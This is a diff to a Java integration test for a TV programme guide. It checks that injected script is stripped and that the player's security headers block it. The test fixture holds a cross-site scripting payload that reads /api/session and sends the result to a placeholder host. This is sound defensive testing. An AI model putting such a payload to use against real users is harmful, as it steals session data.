@@ -19,6 +19,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.zip.GZIPInputStream;
 import java.util.zip.GZIPOutputStream;
 import javax.xml.parsers.DocumentBuilderFactory;
@@ -333,7 +334,7 @@ class EpgIT {
         <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="cnn.us">
           <title lang="en">News</title>
           <desc>Tonight<script xmlns="http://www.w3.org/1999/xhtml">
-            document.documentElement.setAttribute('data-pwned', 'yes');
+            document.documentElement.setAttribute('data-' + 'pwned', 'yes');
             fetch('/api/session').then(r => r.text()).then(t =>
               fetch('%s/pwned?' + encodeURIComponent(t)));
           </script></desc>
@@ -363,6 +364,54 @@ class EpgIT {
 
     Tools.debianAt(Path.of(CHROMIUM), "chromium", "chromium");
     int before = provider.requestCount();
+    String dom = dumpDom(Api.BASE_URL + epg);
+    assertTrue(dom.contains("Tonight"), "Chromium opened the guide: " + dom);
+    assertTrue(!dom.contains("data-pwned=\"yes\""), dom);
+    assertEquals(before, provider.requestCount(), "the guide's script called out");
+
+    // In depth: the player answer's headers alone keep such a script from running, even unstripped.
+    String raw = HOSTILE.formatted("http://127.0.0.1:9");
+    assertTrue(
+        dumpDom(serve(raw, Map.of())).contains("data-pwned=\"yes\""), "the script runs bare");
+    Map<String, String> headers = new java.util.HashMap<>();
+    for (String name : List.of("Content-Security-Policy", "X-Content-Type-Options")) {
+      headers.put(name, guide.header(name));
+    }
+    String inert = dumpDom(serve(raw, headers));
+    assertTrue(inert.contains("Tonight"), inert);
+    assertTrue(!inert.contains("data-pwned=\"yes\""), "the player headers stop it: " + inert);
+  }
+
+  /** Serves {@code xml} as application/xml with these headers on 127.0.0.1 for a minute. */
+  static String serve(String xml, Map<String, String> headers) throws Exception {
+    com.sun.net.httpserver.HttpServer server =
+        com.sun.net.httpserver.HttpServer.create(
+            new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
+    byte[] body = xml.getBytes(StandardCharsets.UTF_8);
+    server.createContext(
+        "/",
+        exchange -> {
+          exchange.getResponseHeaders().set("Content-Type", "application/xml; charset=UTF-8");
+          headers.forEach(exchange.getResponseHeaders()::set);
+          exchange.sendResponseHeaders(200, body.length);
+          try (OutputStream out = exchange.getResponseBody()) {
+            out.write(body);
+          }
+        });
+    server.start();
+    Thread stopper = new Thread(() -> server.stop(0));
+    java.util.concurrent.Executors.newSingleThreadScheduledExecutor(
+            r -> {
+              Thread t = new Thread(r);
+              t.setDaemon(true);
+              return t;
+            })
+        .schedule(stopper, 60, java.util.concurrent.TimeUnit.SECONDS);
+    return "http://127.0.0.1:" + server.getAddress().getPort() + "/guide.xml";
+  }
+
+  /** The document Chromium builds from {@code url}, after its scripts (if any) ran. */
+  static String dumpDom(String url) throws Exception {
     Path profile = Files.createTempDirectory("chromium");
     try {
       dev.lineup.support.Node.Result dom =
@@ -378,13 +427,11 @@ class EpgIT {
                   "--user-data-dir=" + profile,
                   "--virtual-time-budget=3000",
                   "--dump-dom",
-                  Api.BASE_URL + epg),
-              java.util.Map.of(),
+                  url),
+              Map.of(),
               60);
       assertEquals(0, dom.status(), dom.output());
-      assertTrue(dom.output().contains("Tonight"), "Chromium opened the guide: " + dom.output());
-      assertTrue(!dom.output().contains("data-pwned"), dom.output());
-      assertEquals(before, provider.requestCount(), "the guide's script called out");
+      return dom.output();
     } finally {
       try (var files = Files.walk(profile)) {
         files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
